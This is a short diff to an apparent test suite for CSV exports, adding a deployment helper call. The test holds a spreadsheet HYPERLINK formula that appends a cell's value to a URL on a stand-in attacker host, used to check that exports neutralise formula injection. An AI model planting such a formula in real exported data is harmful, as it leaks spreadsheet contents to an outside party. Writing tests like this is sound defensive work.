@@ -8,12 +8,14 @@ import { bodyToLexical } from '../../../src/packs/lexical'
 import { signInAs } from '../../helpers/accounts'
 import { type BundledIds, importBundledCampaigns } from '../../helpers/bundledCampaigns'
 import { messageOf } from '../../helpers/delivery'
+import { useDeploymentK } from '../../helpers/deploymentK'
 import { startTestServer } from '../../helpers/testServer'
 
 const FORMULA = '=HYPERLINK("https://evil.example.net/?"&A1,"Open the report")'
 
 /** An editor's text, or a crafted filter, must never reach an evaluator's spreadsheet as a formula. */
 describe('CSV exports', () => {
+  useDeploymentK(5)
   let server: RunningServer
   let ids: BundledIds
   let evaluator: Headers
